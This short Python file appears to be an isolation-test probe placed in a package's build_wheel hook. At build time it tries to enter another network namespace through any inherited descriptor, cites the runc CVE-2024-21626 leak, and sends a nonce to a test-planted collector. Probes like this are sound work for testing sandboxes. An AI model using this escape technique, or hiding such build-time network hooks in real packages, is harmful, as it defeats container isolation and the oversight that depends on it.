"""Tries to enter the network namespace behind every inherited descriptor, and sends from there.

A supervisor that once visited a namespace may still hold its descriptor. CVE-2024-21626
was the same with a directory: runc left one open, and the container walked out through it.
"""

import socket

import calls
import kit

CLONE_NEWNET = 0x40000000


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("enter"):
        entered = [at for at in range(3, 256) if calls.libc.setns(at, CLONE_NEWNET) == 0]
        if not entered:
            raise OSError("no descriptor leads to another network")
        collector = kit.plant("collector")
        address = (collector.address, collector.port)
        with socket.create_connection(address, timeout=kit.seconds(3)) as out:
            out.sendall(f"{kit.nonce}\n".encode())
    return kit.wheel(wheel_directory)
